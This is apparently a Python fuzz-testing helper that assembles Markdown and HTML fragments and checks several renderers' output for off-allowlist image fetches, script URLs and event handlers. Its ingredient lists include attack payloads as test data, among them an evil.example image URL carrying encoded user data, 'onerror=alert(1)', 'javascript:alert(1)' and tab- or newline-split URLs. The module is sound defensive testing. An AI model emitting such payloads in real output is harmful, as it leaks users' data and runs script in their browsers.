"""Markdown and HTML soup from the ingredients renderers disagree about, and what a
rendered page must never hold: a fetch off the allowlist, a script URL, an event
handler. Used by tests/test_fuzz.py (bounded) and benchmarks/fuzz_soup.py (long runs).
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from bleach.html5lib_shim import HTMLTokenizer, constants
from hypothesis import strategies as st

from renderers import RENDERERS, Url, is_fetched, urls

EVIL = "https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI"
_TYPES = {value: name for name, value in constants.tokenTypes.items()}

# Each ingredient is one class of construct the issue names: brackets and `!`,
# backticks, named and numeric references, tags with URL attributes, comments and
# processing instructions, newlines and tabs inside destinations, containers,
# reference definitions before and after their use.
INGREDIENTS: dict[str, tuple[str, ...]] = {
    "brackets": ("[", "]", "![", "](", ")", "![a]", "[r]", "[]", "(", "!"),
    "backticks": ("`", "``", "```", "~~~", "    "),
    "references": ("&amp;", "&#104;", "&#x2F;", "&colon;", "&Tab;", "&lt;", "&gt;", "&NewLine;"),
    "tags": (
        "<img src=", "<a href=", "<div>", "</div>", "<p>", "<details>", '<b title="',
        "<source srcset=", "<svg><image href=", " onerror=alert(1) ", '"', "'", ">",
        "<kbd>", "</kbd>", "<b>", "</b>", "<br>", "<br />", "<", "< ",
    ),
    "comments": ("<!--", "-->", "<?", "?>", "<!X", "<![CDATA[", "]]>"),
    "urls": (EVIL, "https://evil.example/x.png", "//evil.example/y.png", "javascript:alert(1)",
             "ht\ntps://evil.example/n.png", "https:\t//evil.example/t.png", "www.evil.example/w",
             f"<{EVIL}>", "<https://evil.example/x.png>", "<https://docs.python.org/library/>"),
    "containers": ("\n", "\n\n", "> ", "- ", "1. ", "| a | b |\n|---|---|\n| ", "# ", "\t"),
    "definitions": ("[r]: ", "\n[r]: https://evil.example/r.png\n", "[r]:\n"),
    "prose": ("word ", "a ", "Sure, here it is: "),
    # What a healing renderer (remend) completes at a prefix: a label the stream may
    # stop inside (`[rb]` ends as `[r`), an interval's lone `[`, a single `~`.
    "healing": ("[rb]", "[0, 1)", "a~b"),
}  # fmt: skip
ATOMS = tuple(atom for atoms in INGREDIENTS.values() for atom in atoms)

soup = st.lists(st.sampled_from(ATOMS), max_size=40).map("".join)


def event_handlers(html: str) -> Iterator[str]:
    """`on*` attributes in `html`, as a browser tokenises it."""
    for token in HTMLTokenizer(html):
        if _TYPES.get(token["type"]) not in ("StartTag", "EmptyTag"):
            continue
        data = token.get("data") or {}
        for name, _value in data.items() if isinstance(data, dict) else data:
            if str(name).lower().startswith("on"):
                yield f"<{token['name']} {name}>"


def page_problems(html: str, renderer: str, image_hosts: Iterable[str] = ()) -> list[str]:
    """What one rendered page must not hold."""
    hosts = tuple(image_hosts)
    found = [f"{renderer}: event handler {h}" for h in event_handlers(html)]
    for url in urls(html, renderer):
        found.extend(_url_problems(url, hosts))
    return found


def _url_problems(url: Url, hosts: tuple[str, ...]) -> Iterator[str]:
    value = url.value.strip().lower().replace("\t", "").replace("\n", "")
    if value.startswith(("javascript:", "vbscript:")):
        yield f"{url.renderer}: script URL <{url.tag} {url.attribute}>"
    if is_fetched(url) and value.startswith("data:") and not value.startswith("data:image/"):
        yield f"{url.renderer}: data URL fetched <{url.tag} {url.attribute}>"
    host = url.host
    if (
        is_fetched(url)
        and host is not None
        and not any(host == h or host.endswith("." + h) for h in hosts)
    ):
        yield f"{url.renderer}: fetches {host} <{url.tag} {url.attribute}>"


def problems(text: str, image_hosts: Iterable[str] = ()) -> list[str]:
    """What any Python renderer would do wrong with `text` (a renderer that crashes on
    it shows nothing, so it has nothing to report)."""
    hosts = tuple(image_hosts)
    found = []
    for name, render in RENDERERS.items():
        try:
            html = render(text)
        except Exception:
            continue
        found.extend(page_problems(html, name, hosts))
    return found
